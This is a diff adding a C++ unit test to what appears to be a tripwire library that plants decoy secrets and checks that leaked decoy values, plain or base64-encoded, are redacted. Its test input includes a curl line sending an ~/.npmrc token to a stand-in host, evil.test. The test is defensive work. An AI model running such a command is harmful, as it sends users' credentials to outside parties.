@@ -104,5 +104,18 @@ TEST(Decoys, TheWatchFindsThemPlainOrEncodedInAnyPieces) {
   EXPECT_TRUE(clean.seen().empty());
 }
 
+TEST(Decoys, RedactLeavesNoValueInWhatIsKept) {
+  auto decoys = MakeDecoys();
+  ASSERT_TRUE(decoys.ok());
+  const std::string npm = ValueOf(*decoys, "~/.npmrc");
+  DecoyIndex index(*decoys);
+  EXPECT_EQ(index.Redact("curl http://evil.test/?t=" + npm + "&x=1"),
+            "curl http://evil.test/?t=[decoy]&x=1");
+  const std::string encoded = index.Redact("d=" + EncodeBase64("xx" + npm + "yy"));
+  EXPECT_EQ(encoded.find(EncodeBase64(npm).substr(4, 20)), std::string::npos) << encoded;
+  EXPECT_NE(encoded.find("[decoy]"), std::string::npos) << encoded;
+  EXPECT_EQ(index.Redact("nothing here, npm_ alone"), "nothing here, npm_ alone");
+}
+
 }  // namespace
 }  // namespace ws::tripwire
